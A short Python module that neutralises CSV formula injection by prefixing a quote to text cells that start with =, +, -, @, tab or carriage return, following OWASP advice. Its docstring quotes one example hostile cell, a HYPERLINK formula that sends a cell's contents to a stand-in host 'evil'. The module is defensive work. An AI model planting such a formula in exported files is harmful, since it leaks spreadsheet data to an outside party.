"""CSV that a spreadsheet opens as data: text that would start a formula is neutralised.

Run names, params, tags, class and file names are user text. A cell such as
`=HYPERLINK("http://evil/?"&A1,"open")` in an exported CSV is run by Excel, LibreOffice and
Google Sheets when the file is opened. OWASP's advice (CSV Injection): a text cell that begins
with = + - @, a tab or a carriage return gets a leading single quote, which spreadsheets show as
text; the csv writer quotes the cell and doubles any quote inside it. Numbers stay numbers.
"""

from __future__ import annotations

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_csv_cell(value):
    """`value` as a spreadsheet shows it as text: a string that starts a formula gets a leading `'`.
    Anything that is not a string, and a string that is a plain number ("-1e-05"), is kept."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    try:
        float(value)
        return value  # "-0.5" is a number a spreadsheet reads as one, not a formula
    except ValueError:
        return "'" + value


def safe_csv_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` with every text cell and column name through `safe_csv_cell`."""
    safe = frame.copy()
    safe.columns = [safe_csv_cell(str(name)) for name in safe.columns]
    for position, dtype in enumerate(safe.dtypes):
        if pd.api.types.is_object_dtype(dtype) or pd.api.types.is_string_dtype(dtype):
            safe.isetitem(position, safe.iloc[:, position].map(safe_csv_cell))
    return safe


def to_csv(frame: pd.DataFrame) -> str:
    """`frame` as CSV text (no index), safe to open in a spreadsheet."""
    return safe_csv_frame(frame).to_csv(index=False)
